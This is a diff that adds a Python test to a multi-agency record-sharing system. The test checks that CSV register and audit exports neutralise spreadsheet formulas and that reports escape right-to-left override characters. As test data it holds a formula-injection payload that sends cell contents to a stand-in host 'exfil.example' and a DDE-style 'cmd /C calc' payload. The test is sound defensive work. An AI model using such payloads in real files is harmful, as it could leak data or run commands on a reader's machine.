@@ -8,6 +8,7 @@ Built by tests/api_garbler.py, seeded as tests/test_api_garbage.py is."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import dataclasses
 import io
 import json
@@ -26,6 +27,7 @@ from google.protobuf.message_factory import GetMessageClass
 from gateway.db import GatewayDb
 from gateway.metalog import MetaLog
 from linkage import stories
+from linkage.cli.spreadsheet import FORMULA_START
 from linkage.cli.terminal import UNSAFE
 from linkage.clock import ManualClock
 from linkage.content import CONTENT
@@ -253,6 +255,55 @@ async def test_text_from_another_agency_cannot_act_on_the_reader_s_terminal(fede
         assert not UNSAFE.search(shown) and "\r" not in shown
     assert "Risk is HIGH\\u000d LOW\\u001b[2J\\u001b]0;retitled\\u0007 and \\u202eHGIH si ksiR\\u202c" in text
     assert json.loads(as_json)["body"]["summary"]["headline"] == hostile
+
+
+async def test_text_from_another_agency_opens_as_text_in_an_ig_officer_s_spreadsheet_and_report(
+    federation: LocalFederation, tmp_path: Path
+) -> None:
+    """A member's summary carries spreadsheet formulas where its rationale and decider go,
+    and a right-to-left override in its headline and decider's role. At csc, the register's
+    and the audit export's CSV hold each formula behind an apostrophe, as text, and no
+    control character; the subject access report shows the override as its escape; the
+    JSON lines keep the rationale as it was sent."""
+    rationale = '=HYPERLINK("https://exfil.example/?"&A2,"Open the record")'
+    decider = "@SUM(1+1)*cmd|' /C calc'!A0"
+    role = "Care \u202eeroc\u202c"
+    async with running(federation, nodes=("amh", "csc")) as cluster:
+        amh, tokens = await _linked_to_one_family(cluster)
+        summary = stories.parent_risk_change(tokens[0], tokens[-1])
+        summary.summary_id, summary.headline = "s-formulas", "-1 Risk is \u202eHGIH\u202c"
+        summary.decision.CopyFrom(stories.override_decision())
+        summary.decision.outcome = summary_pb2.DECISION_OUTCOME_SHARED
+        summary.decision.rationale = rationale
+        summary.decision.decided_by.name, summary.decision.decided_by.role = decider, role
+        kind = envelope_pb2.MESSAGE_KIND_SUMMARY_SHARE
+        sent = await _send(amh, "csc", kind, tokens, "formulas", lambda body: body.summary.CopyFrom(summary))
+        assert await amh.outbox.settled(sent) == "delivered"
+        csc = ["--config", str(federation.node_configs["csc"].data_dir / "node.toml")]
+        register, exported, lines, page = (tmp_path / n for n in ("register.csv", "audit.csv", "audit.jsonl", "r.html"))
+        for command in (
+            ("register", "--csv", str(register)),
+            ("export", "--format", "csv", "--out", str(exported)),
+            ("export", "--format", "jsonl", "--out", str(lines)),
+            ("report", "--person", f"nhs:{stories.PARENT_NHS}", "--html", str(page)),
+        ):
+            code, _, err = await linkage("audit", *command, *csc)
+            assert code == 0, err
+    tables = {path.name: list(csv.DictReader(path.open(newline=""))) for path in (register, exported)}
+    for name, rows in tables.items():
+        cells = [value for row in rows for value in row.values()]
+        assert not [c for c in cells if c.startswith(FORMULA_START) or UNSAFE.search(c)], name
+    (received,) = [row for row in tables["register.csv"] if row["id"] == sent]
+    assert received["why"] == "'" + rationale
+    assert received["by"] == "'" + decider + " (Care \\u202eeroc\\u202c) at the sender"
+    (entry,) = [row for row in tables["audit.csv"] if row["message_id"] == sent and row["event"] == "message.received"]
+    assert entry["rationale"] == "'" + rationale
+    as_sent = [json.loads(line) for line in lines.read_text().splitlines()]
+    assert [e["rationale"] for e in as_sent if e["message_id"] == sent and e["event"] == "message.received"] == [
+        rationale
+    ]
+    shown = page.read_text()
+    assert not UNSAFE.search(shown) and "-1 Risk is \\u202eHGIH\\u202c" in shown
 
 
 FRAMES = 3_000  # on a member's stream to the gateway
